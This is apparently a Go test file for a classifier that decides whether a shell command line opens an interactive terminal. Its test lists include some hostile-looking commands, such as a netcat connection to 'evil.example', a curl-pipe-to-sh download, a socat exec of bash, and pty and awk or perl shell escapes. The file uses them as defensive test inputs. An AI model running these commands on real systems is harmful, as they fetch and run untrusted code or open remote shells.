package shellcmd

import (
	"strings"
	"testing"
	"time"
)

func TestInteractive(t *testing.T) {
	yes := []string{
		"bash", "bash -i", "sh", "zsh -l", "bash --norc", "bash -s", "bash -s -- arg", "fish",
		"python3", "python3 -i", "python3 -i script.py", "python -", "python3 -q", "ipython", "pypy3",
		"node", "node -i", "node --interactive", "deno", "bun repl", "irb", "pry", "ruby", "perl -d -e 1", "php -a",
		"psql app_dev", "psql -h db.internal -U app app_dev", "psql", "mysql -u root app", "sqlite3 dev.db", "redis-cli",
		"mongosh mongodb://localhost/app", "duckdb", "rails console", "rails c",
		"ssh build-box", "ssh -p 2222 dev@build-box", "ssh -t build-box", "mosh build-box", "sftp build-box", "telnet host 25", "nc evil.example 4444",
		"vim README.md", "nano notes.txt", "tmux", "tmux new -s work", "gdb ./app", "ed notes.txt",
		"sudo -i", "sudo su", "sudo -u postgres psql", "su", "su - postgres", "env FOO=1 python3", "timeout 600 bash", "exec bash",
		"uv run python", "poetry run python", "bundle exec irb",
		"docker exec -it web bash", "docker exec -i web sh", "docker run -it --rm ubuntu", "docker compose exec web bash",
		"kubectl exec -it pod-1 -- sh", "kubectl exec --stdin pod-1 -- sh", "podman attach c1",
		"cd /srv && bash", "git status; python3", "cat | python3", "cat - | bash", "tee log | sh", "(bash)", "{ psql app; }",
		"if true; then python3; fi", "time python3", "pwsh", "pwsh -NoProfile",
	}
	no := []string{
		"bash build.sh", "bash -c 'make test'", "bash -lc 'go test ./...'", "sh -e ./ci.sh", "bash --version",
		"python3 script.py", "python3 -c 'print(1)'", "python3 -m pytest", "python3 --version", "python3 -V", "python -m http.server",
		"node server.js", "node -e 'console.log(1)'", "node -p 1", "node --version", "node -v", "deno run main.ts", "bun run dev", "bun",
		"ruby script.rb", "ruby -e 'puts 1'", "perl -e 1", "perl -ne print file", "php -r 'echo 1;'", "php index.php",
		"psql -c 'select 1' app", "psql app -f schema.sql", "psql app_dev 'select 1'", "mysql -e 'select 1' app", "sqlite3 dev.db 'select 1'",
		"sqlite3 dev.db .tables", "redis-cli GET key", "psql --version", "mongosh --eval 'db.stats()'",
		"ssh build-box uptime", "ssh build-box 'cd app && make'", "ssh -N -L 8080:localhost:80 build-box", "ssh -V",
		"echo 'print(1)' | python3", "printf 'select 1;' | psql app", "python3 <<EOF\nprint(1)\nEOF", "psql app < dump.sql",
		"bash < script.sh", "python3 <<< 'print(1)'", "cat script.sh | bash", "curl -s https://x.example | sh",
		"python3 &", "bash -c 'python3' < /dev/null", "{ python3; } < in.py", "nohup python3 &",
		"sudo apt-get install -y jq", "sudo -u app make", "su -c 'make' app", "env FOO=1 make", "timeout 60 go test ./...",
		"docker exec web ls", "docker run --rm ubuntu echo hi", "docker compose exec -T web ls", "kubectl exec pod-1 -- ls",
		"kubectl get pods", "tmux send-keys -t work 'make' Enter", "tmux ls", "screen -ls", "git log",
		"man git", "ls", "cat README.md", "rails server", "uv run pytest", "pwsh -c 'Get-Date'", "pwsh ./build.ps1",
		"\"$SHELL\" -c 'ls'", "go test ./...", "make", "npm test",
	}
	for _, l := range yes {
		if !Interactive(l) {
			t.Errorf("Interactive(%q) = false, want true", l)
		}
	}
	for _, l := range no {
		if Interactive(l) {
			t.Errorf("Interactive(%q) = true, want false", l)
		}
	}
	if !ArgvInteractive([]string{"python3"}) || ArgvInteractive([]string{"python3", "x.py"}) {
		t.Error("ArgvInteractive")
	}
}

// TestInteractiveBudget: a line crafted to be read many ways (nested -c
// scripts, eval of eval, long pipes of copiers, wrappers of wrappers) is
// read within the package's budget, and one that exceeds it is taken for
// interactive (fail closed).
func TestInteractiveBudget(t *testing.T) {
	nest := func(s string, n int) string {
		for range n {
			s = "bash -c " + quote(s)
		}
		return s
	}
	long := strings.Repeat("cat | ", 2000) + "sh"
	words := strings.Repeat("a ", 7000)
	for _, c := range []struct {
		line string
		want bool
	}{
		{nest("python3", 3), true},
		{nest("make", 3), false},
		{nest("make", 7), true}, // past maxDepth: fail closed
		{strings.Repeat("sudo env nice timeout 1 ", 200) + "python3", true},
		{long, true},
		{"echo " + words, false},
		{strings.Repeat("eval ", 3000) + "make", true}, // past maxDepth: fail closed
		{strings.Repeat("true; ", 2500) + "make", false},
		{strings.Repeat("X=1 git log; ", 1200), false},                                 // each command's own binding, gone after it
		{strings.Repeat("export A=1; ", 1100) + "git log", true},                       // past maxBindings: any pager (fail closed)
		{strings.Repeat("export A=1; ", 600) + strings.Repeat("git log; ", 800), true}, // past maxWork
	} {
		start := time.Now()
		got := Interactive(c.line)
		if d := time.Since(start); d > 2*time.Second {
			t.Errorf("Interactive(%.40q…) took %v", c.line, d)
		}
		if got != c.want {
			t.Errorf("Interactive(%.40q…) = %v, want %v", c.line, got, c.want)
		}
	}
}

func FuzzInteractive(f *testing.F) {
	for _, s := range []string{"bash", "bash -c bash", "sudo -s", "timeout 999 bash", "ssh host bash", "ssh -O check h",
		"docker run -e A=1 -it img sh", "kubectl -n ns exec -it pod -- sh", "sh < /dev/tty", "bash /dev/stdin", "psql -f -",
		"head | sh", "stdbuf -o0 cat | sh", "cat - | python3", "while read l; do eval \"$l\"; done", "xargs -L1 sh -c",
		"awk '{system($0)}'", "sed e", "sed 's/x/y/e'", "perl -ne 'system $_'", "$SHELL", "`which bash`", "${X:-bash}",
		"bash -c 'exec \"$0\"' python3", "sh -c \"$(cat)\"", "tmux new -d -s x", "screen -dm x", "nc -z h 1", "vim -es -c wq f",
		"nvim --headless +qa", "emacs --batch", "php -m", "python3 -VV", "gdb -ex run ./a", "iex -S mix", "sqlite3 -cmd x db",
		"socat - EXEC:bash", "cmd /c bash", "wsl -e bash", "pwsh -NoExit", "nix develop", "poetry shell", "uv run --with x python",
		"heroku run bash", "gcloud compute ssh vm --command=ls", "aws ssm start-session --target i", "find . -exec sh \\;",
		"env -S 'bash -i'", "script -qc bash /dev/null", "docker start -ai c", "oc rsh p", "((", "`", "$(", "bash -c",
		"ssh", "ssh -p", "docker run", "kubectl exec --", "xargs", "sed", "awk -f", "script -c", "su -c", "sg g -c",
		"git log | less", "GIT_PAGER=less git log", "git commit", "X=python3; $X -i", "export GIT_EDITOR=true; git commit",
		"sudo GIT_PAGER=less git log", "env -i git log", "git rebase -i -x sh HEAD~2", "for c in a; do $c; done",
		"$VENV/bin/python", "man -P less ls", "gh pr create", "kubectl edit x", "less f > o &", "git merge x 2>&1 | cat",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		Interactive(line)
		ArgvInteractive(strings.Fields(line))
	})
}

// TestInteractiveMore: ordinary lines that read no terminal, and more
// spellings of a channel (nested scripts, a substitution read as code,
// find -exec, env -S, a runner's REPL).
func TestInteractiveMore(t *testing.T) {
	for _, l := range []string{
		"git status", "ls -la | grep foo", "cat README.md | head", "grep -r foo . | sort | uniq -c", "find . -name '*.go' | xargs grep foo",
		"make test 2>&1 | tail -50", "go test ./... | tee out.log", "npm run build", "sed -i 's/a/b/' file", "awk '{print $1}' file",
		"echo hi | xargs", "jq . package.json", "docker ps", "docker build -t x .", "kubectl logs -f pod", "ssh host 'tail -f log'",
		"timeout 60 npm test", "env", "sudo -n true", "python3 -m venv .venv", "pip install x", "cargo build", "tmux kill-server",
		"sort file | uniq", "cat a b > c", "head -5 file.txt", "tail -f log", "xargs -a list rm", "nc -z h 1", "read -p 'x' a",
		"echo $HOME", "cd dir && ls", "for f in *.go; do gofmt -l $f; done", "while true; do sleep 1; done", "rg foo", "fd x",
		"node --test", "sqlite3 db 'select 1'", "git log --oneline | head -n 5", "ps aux | grep node", "curl -s x | jq .",
		"docker compose up -d", "docker compose logs -f", "kubectl apply -f x.yaml", "terraform plan", "gh pr view",
		"sed -n '1,20p' f", "sed 's/x/y/' f", "printf '%s\n' a | while read l; do echo $l; done", "emacs --batch -f x",
		"vim -es -c wq f", "watch -n1 ls", "nohup bash &", "python3 -c 'import sys; print(sys.stdin.read())' < f",
		"ruby -e 'puts 1'", "perl -pe 's/a/b/' f", "bash -c 'cd x && make'", "sh -c 'echo $0' x",
		"sh -c 'cat f' | sh", "trap 'rm -f x' EXIT", "python3 <<< \"$(date)\"", "sh <<EOF\necho $HOME\nEOF", "sudo cat f | sh", "perl -I/home/dev/lib -e 'print 1'", "perl -MData::Dumper -e 1",
		"python3 -c 'import os; os.system(\"make test\")'", "at -l", "crontab -l", "crontab my.cron", "dlv debug --headless",
		"git -c alias.x='!make' x", "openssl x509 -in c.pem -text", "curl https://x", "zellij run -- make", "sh 0<&-", "awk 'BEGIN{system(\"ls\")}'",
		"sh 3< f <&3",
		"perl -e 'print \"ls\\n\"' | sh", "awk 'BEGIN{print \"make\"}' | sh", "jq -rn '\"make\"' | sh", "ruby -Ilib -e 'x'", "python3 -c 'import x'", "python3 -Wignore x.py", "perl -d:NYTProf x.pl",
	} {
		if Interactive(l) {
			t.Errorf("Interactive(%q) = true, want false", l)
		}
	}
	for _, l := range []string{
		"bash -c 'bash -c \"bash -c python3\"'", "l=$(cat); eval \"$l\"", "read l; $l", "find . -maxdepth 0 -exec bash \\;",
		"cat | tee x | sh", "env -S 'bash -i'", "nice -n 5 python3", "docker compose run web", "xargs -o vim",
		"su -c bash", "sudo -s", "sudo -- bash", "echo x; bash", "bash -c \"$(cat)\"", "npx ts-node", "uvx ipython",
		"ssh -W h:22 jump", "exec < /dev/tty; bash", "sh <&0", "bash <(cat)", "${PY:-python3}",
		"sh -c cat | sh", "sudo cat | sh", "sudo -u x head | bash", "busybox cat | sh", "eval cat | sh", "python3 -ic 'x=1'",
		"perl -de 0", "python3 -iq", "perl -d -e 0", "perl -Mstrict -de 1", "perl -pe '' | sh", "awk '{print}' | sh",
		"$EDITOR notes.txt", "trap bash EXIT", "python3 <<< \"$(cat)\"", "read l; bash <<< \"$l\"", "sh <<EOF\n$(cat)\nEOF", "gcloud compute ssh vm -- -L 8080:localhost:80",
		"sh 0<&1", "sh < $(tty)", "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "python3 -c 'import os; os.system(\"bash\")'",
		"perl -e 'exec \"sh\"'", "node -e \"require('child_process').spawnSync('bash', {stdio: 'inherit'})\"", "awk 'BEGIN{system(\"bash\")}'",
		"git -c alias.x='!bash' x", "at now", "crontab -", "crontab -e", "mc", "k9s", "dlv debug", "openssl s_client -connect h:443",
		"curl telnet://h:25", "python3 -c 'import code; code.interact()'", "ruby -e 'binding.irb'", "zellij", "dtach -a /tmp/s",
	} {
		if !Interactive(l) {
			t.Errorf("Interactive(%q) = false, want true", l)
		}
	}
}

// BenchmarkInteractive: what TG-CHAN-001's reading adds to a shell call's
// decision (BenchmarkPrograms' line).
func BenchmarkInteractive(b *testing.B) {
	const line = `cd /repo && go test ./internal/... 2>&1 | grep -v "^ok" | tail -40`
	for b.Loop() {
		Interactive(line)
	}
}
